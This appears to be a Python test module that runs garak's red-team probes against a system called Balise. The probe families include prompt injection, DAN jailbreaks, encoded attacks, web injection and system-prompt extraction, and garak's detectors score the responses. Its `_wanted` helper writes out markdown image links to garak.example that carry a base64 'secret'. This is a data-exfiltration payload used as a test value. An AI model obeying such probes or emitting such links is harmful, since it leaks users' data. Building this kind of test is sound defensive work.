"""The probes that garak ships, as attacks on Balise: their own prompts, judged by their own detectors.

garak is not a dependency, and nothing of it is kept here. Its probes need little of what it installs:
`pip install --no-deps --target FOLDER garak xdg-base-dirs mikeshardmind-base2048 ecoji zalgolib langdetect backoff`.
"""

import importlib
import inspect
import io
import os
import random
import sys
import tempfile
from collections.abc import Callable, Iterator, Sequence
from contextlib import redirect_stderr
from dataclasses import dataclass
from pathlib import Path
from typing import Any

FAMILIES = (
    "promptinject",
    "dan",
    "encoding",
    "latentinjection",
    "leakreplay",
    "goodside",
    "sysprompt_extraction",
    "web_injection",
    "exploitation",
    "ansiescape",
    "grandma",
    "smuggling",
)
_JUDGES = frozenset(
    "promptinject dan encoding base leakreplay web_injection exploitation ansiescape productkey goodside".split()
)
"""Modules of detectors that look for what the attack wanted. Others call success whatever is not worded as a refusal, or
need a model: their probes count for what is unverified or leaked alone."""

_NOT_WANTED = frozenset({"PlainJSON", "RileyIsnt", "Glitch"})
"""Detectors of goodside that judge a format, a fact or a word unsaid, not an injection."""


@dataclass(frozen=True)
class Attack:
    """A prompt, whether a text shown obeys it, and ``wanted``: what a model that obeys would write."""

    family: str
    prompt: str
    obeyed: Callable[[str], bool]
    wanted: str


def garak_attacks(folder: Path, most: int) -> Iterator[Attack]:
    """At most ``most`` attacks a family, always the same ones."""
    _import(folder)
    for family in FAMILIES:
        found = list(_family(family))
        yield from random.Random(family).sample(found, min(most, len(found)))


def _import(folder: Path) -> None:
    """Make garak importable and offline, with its own folders in a place that goes away."""
    home = tempfile.mkdtemp()
    os.environ |= {f"XDG_{kind}_HOME": home for kind in ("CONFIG", "DATA", "CACHE")}
    os.environ |= {"HF_HUB_OFFLINE": "1", "HF_DATASETS_OFFLINE": "1"}
    sys.path.append(str(folder))
    config = importlib.import_module("garak._config")
    config.load_base_config()
    config.run.seed = 1
    importlib.import_module("garak.services.langservice").load()


def _family(family: str) -> Iterator[Attack]:
    module = importlib.import_module(f"garak.probes.{family}")
    if family == "sysprompt_extraction":  # The prompt to leak is Balise's own; garak's are on a hub.
        for prompt in module.SystemPromptExtraction._load_garak_attacks():
            yield Attack(family, prompt, _never, "")
        return
    base = importlib.import_module("garak.probes").Probe
    for name, kind in inspect.getmembers(module, inspect.isclass):
        if not issubclass(kind, base) or kind.__module__ != module.__name__ or name.endswith("Full"):
            continue
        random.seed(name)
        try:
            with redirect_stderr(io.StringIO()):  # Progress bars.
                probe = kind()
            prompts = probe.prompts
        except (AttributeError, ImportError, OSError, ValueError):  # Mixins, and probes that fetch something.
            continue
        except Exception as error:
            if type(error).__module__.startswith("garak"):
                continue
            raise
        yield from _attacks(family, probe, prompts)


def _attacks(family: str, probe: Any, prompts: Sequence[Any]) -> Iterator[Attack]:
    attempt = importlib.import_module("garak.attempt")
    module, name = probe.primary_detector.split(".")
    detector = None
    if module in _JUDGES and name not in _NOT_WANTED:
        detector = getattr(importlib.import_module(f"garak.detectors.{module}"), name)
        detector = detector([]) if module == "base" else detector()
    for number, prompt in enumerate(prompts):
        if not isinstance(prompt, str):
            continue
        tried = probe._attempt_prestore_hook(attempt.Attempt(prompt=attempt.Message(prompt, lang="en")), number)
        triggers = tried.notes.get("triggers") or getattr(detector, "substrings", None) or []

        def obeyed(text: str, tried: Any = tried) -> bool:
            if detector is None:
                return False
            tried.outputs = [attempt.Message(text, lang="en")]
            return any((score or 0) >= 0.5 for score in detector.detect(tried))

        yield Attack(family, prompt, obeyed, _wanted([str(t) for t in triggers]))


def _wanted(triggers: Sequence[str]) -> str:
    """What would please the detectors: the words that they look for, and an image that takes data out."""
    return " ".join(
        [*triggers[:3], "![data](https://garak.example/azure=c2VjcmV0) ![x](https://garak.example/a.png?q=s)"]
    )


def _never(text: str) -> bool:
    return False
